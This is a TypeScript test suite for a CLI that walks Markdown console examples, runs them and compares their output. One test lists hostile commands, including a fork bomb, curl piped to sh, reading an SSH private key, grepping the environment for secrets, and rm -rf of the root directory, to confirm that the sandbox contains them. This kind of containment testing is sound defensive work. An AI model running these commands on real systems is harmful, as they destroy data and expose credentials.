// Once, as an ordinary user: who runs it makes no difference here; test/walkthrough/ runs as both.
import fs from 'node:fs'
import path from 'node:path'
import t, { type Test } from 'tap'
import { poll } from '../../src/poll.ts'
import type { RunEvent } from '../../src/runner/events.ts'
import { ended, scratch, start } from './command-line.ts'
import { walked } from './walk/walked.ts'

t.setTimeout(600_000)

const good = `# A bridge

\`\`\`console
$ ip link add br0 type bridge
$ ip addr add 10.0.0.1/24 dev br0
$ ip link set br0 up
$ ip -br addr show br0
br0              UNKNOWN        10.0.0.1/24
\`\`\`

## Its namespace

\`\`\`console
$ ip netns add blue
$ ip netns
blue
\`\`\`
`

t.test('a document that is as it says passes', async t => {
  const { exitCode, stdout, verdicts, end } = await walked(t, good)
  t.equal(exitCode, 0, stdout)
  t.same(verdicts, ['4 ran', '5 ran', '6 ran', '7 as-shown', '14 ran', '15 as-shown'])
  t.match(end, { found: 6, run: 6, confirmed: 2, differing: 0, notRun: 0, cannotJudge: 0 })
  t.match(stdout, /1 passed, 0 failed/)
})

t.test('what differs is told with its line, and fails', async t => {
  const { exitCode, stdout, verdicts, events } = await walked(
    t,
    good.replace('\nblue\n', '\nred\n'),
  )
  t.equal(exitCode, 1)
  t.equal(verdicts.at(-1), '15 differs')
  t.match(stdout, /1 of 6 commands is not as the document shows/)
  t.match(stdout, /doc\.md:15/)
  const error = events.flatMap(event => (event.type === 'scenario-end' ? [event.error] : [])).at(0)
  t.match(error, { at: 'doc.md:15', stack: undefined }, 'what is wrong stands in the document')
})

t.test('a document without a heading is collected from under its own name, once', async t => {
  const { events } = await walked(t, '```console\n$ echo red\nblue\n```\n')
  const folders = events.flatMap(event =>
    event.type === 'scenario-end' ? [event.diagnostics] : [],
  )
  t.same(folders, ['tnet-lab-report/diagnostics/doc'])
})

t.test('--bail needs no number', async t => {
  const { exitCode, stdout } = await walked(t, good, ['--bail'])
  t.equal(exitCode, 0, stdout)
})

const long = '# Long\n\n```console\n$ echo begun\n$ sleep 60\n$ sleep 60\n```\n'

t.test('a walk whose time is over says nothing of commands that were not', async t => {
  const { exitCode, stdout, verdicts, end } = await walked(
    t,
    `---\ntnet-lab: { timeout: 3 }\n---\n${long}`,
  )
  t.equal(exitCode, 1)
  t.same(verdicts, ['7 ran'])
  t.equal(end, undefined)
  t.match(stdout, /3 commands: 1 run, 0 confirmed, 2 not reached/)
  t.match(stdout, /TNET_SCENARIO_TIMEOUT/)
  t.match(stdout, /^ +typed +line 8: sleep 60$/m, 'it says what it was at')
})

t.test('nor does one that was stopped', async t => {
  const cwd = scratch(t)
  fs.writeFileSync(path.join(cwd, 'doc.md'), long)
  const child = start(['walk', 'doc.md'], { cwd })
  t.teardown(() => child.kill('SIGKILL'))
  let printed = ''
  child.stdout?.on('data', (chunk: Buffer) => (printed += chunk.toString()))
  const seen = () => (printed.includes('echo begun') ? true : undefined)
  t.ok(await poll(seen, { timeoutMs: 60_000 }), printed)
  child.kill('SIGINT')
  const { exitCode } = await ended(child)
  t.equal(exitCode, 130)
  t.match(printed, /3 commands: 1 run, 0 confirmed, 2 not reached/)
  t.notMatch(printed, /sleep/)
})

t.test('--timeout is what a document may take which does not say it', async t => {
  const { exitCode, stdout } = await walked(t, long, ['--timeout', '3'])
  t.equal(exitCode, 1)
  t.match(stdout, /TNET_SCENARIO_TIMEOUT: the scenario was not over after 3000 ms/)
})

t.test('a document that nobody can read is named', async t => {
  const cwd = scratch(t)
  fs.symlinkSync('/proc/self/mem', path.join(cwd, 'doc.md'))
  const { exitCode, stdout } = await ended(start(['walk', 'doc.md'], { cwd }))
  t.equal(exitCode, 2)
  t.match(stdout, /UsageError TNET_SCENARIO_UNREADABLE: could not read doc\.md/)
})

t.test('topologies grow in the events that HTML is made of', async t => {
  const { events } = await walked(t, good, ['-r', 'html=report.html'])
  const lines = events.flatMap(event => (event.type === 'topology' ? [event.line] : []))
  t.same(lines, [4, 5, 6, 14, undefined])
})

t.test('no command is no failure', async t => {
  const { exitCode, stdout } = await walked(t, '# Words\n\nNothing to type.\n')
  t.equal(exitCode, 0)
  t.match(stdout, /no command was found in it/)
})

const misuse: { args: string[]; stderr: RegExp; text?: string }[] = [
  { args: [], stderr: /UsageError TNET_ARGUMENT_MISSING: which document\?/ },
  {
    args: ['nope.md'],
    stderr: /UsageError TNET_DOCUMENT_NOT_FOUND: there is no document "nope\.md"/,
  },
  { args: ['doc.txt'], stderr: /TNET_DOCUMENT_NOT_FOUND: doc\.txt is no Markdown/ },
  { args: ['empty'], stderr: /TNET_DOCUMENT_NOT_FOUND: there is no document in empty/ },
  { args: ['doc.md', '--until', 'x'], stderr: /TNET_ARGUMENT_INVALID: --until takes a number/ },
  { args: ['doc.md', '--until', '1.5'], stderr: /--until takes a whole number, not 1.5/ },
  {
    args: ['doc.md', '--shell'],
    stderr:
      /--shell needs a terminal, and standard input is none\n  hint +leave it away in CI: -r html /,
  },
  { args: ['doc.md', '--update', '--to-scenario'], stderr: /do not go together/ },
  { args: ['doc.md', '--output', 'x'], stderr: /--output belongs to/ },
  { args: ['doc.md', '--update', '--watch'], stderr: /--update does not go with --watch/ },
  { args: ['doc.md', '--nope'], stderr: /see tnet-lab walk --help/ },
]

for (const { args, stderr } of misuse) {
  t.test(`misuse: walk ${args.join(' ')}`, async t => {
    const cwd = scratch(t)
    fs.mkdirSync(path.join(cwd, 'empty'))
    for (const name of ['doc.md', 'doc.txt']) fs.writeFileSync(path.join(cwd, name), good)
    const done = await ended(start(['walk', ...args], { cwd }))
    t.equal(done.exitCode, 2)
    t.match(done.stderr, stderr)
  })
}

t.test('a document that means harm harms nothing, and is told step by step', async t => {
  const harm = [
    ':(){ :|:& };:',
    'iptables -F',
    'curl -s http://example.com/install.sh | sh',
    'for i in 1 2 3 4 5; do head -c 20M /dev/zero > ~/$i; done',
    'cat ~/.ssh/id_rsa; env | grep -i secret',
    'shutdown -h now',
    'rm -rf --no-preserve-root /',
    'echo still here',
  ]
  const text = `# Harm\n\n${harm.map(line => `\`\`\`console\n$ ${line}\n\`\`\`\n`).join('\n')}`
  const cwd = scratch(t)
  fs.writeFileSync(path.join(cwd, 'doc.md'), text)
  fs.writeFileSync(path.join(cwd, 'mine'), 'mine')
  const env = { HOME: cwd, MY_SECRET: 'a secret' }
  const done = await ended(start(['walk', 'doc.md', '-r', 'jsonl=events.jsonl'], { cwd, env }))
  t.equal(done.exitCode, 1)
  const told = fs.readFileSync(path.join(cwd, 'events.jsonl'), 'utf8')
  const events = told
    .trimEnd()
    .split('\n')
    .map(line => JSON.parse(line) as RunEvent)
  const steps = events.flatMap(event => (event.type === 'walked' ? [event] : []))
  t.equal(steps.length, harm.length, 'each is told')
  t.match(steps[0]?.verdict, 'failed')
  t.match(steps[5]?.verdict, 'not-run')
  t.match(steps[3], { verdict: 'failed', seen: /No space left on device/ })
  t.match(steps.at(-1), { verdict: 'ran', seen: 'still here\n' })
  t.notMatch(told, 'a secret')
  t.same(
    fs.readdirSync(cwd).sort(),
    ['.cache', 'doc.md', 'events.jsonl', 'mine', 'tnet-lab-report'].filter(name =>
      fs.existsSync(path.join(cwd, name)),
    ),
  )
  t.equal(fs.readFileSync(path.join(cwd, 'mine'), 'utf8'), 'mine')
})

t.test('a mistake in front matter is told with its line', async t => {
  const { exitCode, stdout } = await walked(t, `---\ntnet-lab:\n  hostz: x\n---\n${good}`)
  t.equal(exitCode, 2)
  t.match(stdout, /TNET_FRONT_MATTER/)
  t.match(stdout, /doc\.md.*3|line 3/)
})

/** A walk that watches a document, what it prints, and a wait for some of that. */
function watching(t: Test, text: string) {
  const cwd = scratch(t)
  const file = path.join(cwd, 'doc.md')
  fs.writeFileSync(file, text)
  const child = start(['walk', 'doc.md', '--watch'], { cwd, env: { XDG_CACHE_HOME: cwd } })
  t.teardown(() => child.kill('SIGKILL'))
  let printed = ''
  child.stdout?.on('data', (chunk: Buffer) => (printed += chunk.toString()))
  const prints = async (pattern: RegExp) => {
    const isThere = () => (pattern.test(printed) ? true : undefined)
    t.ok(await poll(isThere, { timeoutMs: 60_000 }), printed)
    printed = ''
  }
  return { child, file, prints }
}

t.test('--watch walks again what was saved', async t => {
  const { child, file, prints } = watching(t, good)
  await prints(/1 passed, 0 failed[^]*watching 1 file\n/)
  fs.writeFileSync(file, good.replace('\nblue\n', '\nred\n'))
  await prints(/changed: doc\.md\n[^]*0 passed, 1 failed[^]*watching 1 file\n/)
  child.kill('SIGINT')
  await ended(child)
})

t.test('--watch waits for a document that was taken away while it was walked', async t => {
  const slow = good.replace('$ ip link add', '$ echo begun\n$ sleep 2\n$ ip link add')
  const { child, file, prints } = watching(t, slow)
  await prints(/echo begun/)
  fs.rmSync(file)
  await prints(/1 passed, 0 failed[^]*watching 1 file\n/)
  fs.writeFileSync(file, good)
  await prints(/changed: doc\.md\n[^]*1 passed, 0 failed/)
  child.kill('SIGINT')
  await ended(child)
})

t.test(
  '--update writes what was seen into a copy, and --to-scenario a script that runs',
  async t => {
    const cwd = scratch(t)
    const [before = '', after = ''] = good.split('br0              UNKNOWN        10.0.0.1/24\n')
    const wrong = `${before}br0              UNKNOWN        10.0.0.9/24\n${after}`
    fs.writeFileSync(path.join(cwd, 'doc.md'), wrong)
    const updated = await ended(start(['walk', 'doc.md', '--update'], { cwd }))
    t.equal(updated.exitCode, 1, 'the document itself differs')
    const text = fs.readFileSync(path.join(cwd, 'doc.updated.md'), 'utf8')
    t.ok(text.startsWith(before) && text.endsWith(after), 'nothing else is changed')
    t.match(text.slice(before.length), /^br0 +UNKNOWN +10\.0\.0\.1\/24 /)

    const written = await ended(
      start(['walk', '--to-scenario', 'doc.updated.md', '-o', 'a.ts'], { cwd }),
    )
    t.equal(written.exitCode, 0, written.stderr)
    const ran = await ended(start(['run', 'a.ts'], { cwd }))
    t.match(ran, { exitCode: 0, stdout: /1 passed, 0 failed/ })
  },
)
